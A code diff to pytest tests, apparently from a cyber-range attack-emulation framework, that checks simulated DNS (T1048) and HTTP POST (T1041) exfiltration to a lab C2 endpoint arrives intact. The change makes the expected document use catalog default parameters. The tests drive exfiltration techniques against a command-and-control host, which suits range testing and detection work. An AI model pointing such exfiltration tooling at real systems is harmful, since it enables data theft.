@@ -24,13 +24,14 @@ def lab(tmp_path_factory):
 
 
 def test_dns_exfiltration_arrives_intact(lab):
+    from cyberrange.attack.catalog import TECHNIQUES
     from cyberrange.attack.techniques.exfil import make_document
     log, out = lab.c2_dns()
     cap = lab.capture("dnsexfil", snap=2048)
     params = {"size": 6000, "seed": 11, "rate": 400, "jitter": 0.3, "session": "ex01"}
     res = lab.agent("T1048", [f"{C2}:53"], params)
     path = cap.stop()
-    doc = make_document(params)
+    doc = make_document(TECHNIQUES["T1048"].with_defaults(params))
     assert res["outcome"] == "succeeded", res
     assert res["facts"]["complete"] and res["facts"]["sha256"] == hashlib.sha256(doc).hexdigest()
     assert (out / "ex01.bin").read_bytes() == doc
@@ -50,13 +51,14 @@ def test_dns_exfiltration_of_given_text(lab):
 
 
 def test_http_post_exfiltration_arrives_intact(lab):
+    from cyberrange.attack.catalog import TECHNIQUES
     from cyberrange.attack.techniques.exfil import make_document
     log, out = lab.c2_http()
     cap = lab.capture("httpexfil")
     params = {"size": 50000, "seed": 5, "chunk": 16384, "session": "hx01"}
     res = lab.agent("T1041", [f"{C2}:8443"], params)
     path = cap.stop()
-    doc = make_document(params)
+    doc = make_document(TECHNIQUES["T1041"].with_defaults(params))
     assert res["outcome"] == "succeeded", res
     assert res["facts"]["complete"] and res["facts"]["bytes"] == len(doc) == 50000
     assert (out / "hx01.bin").read_bytes() == doc
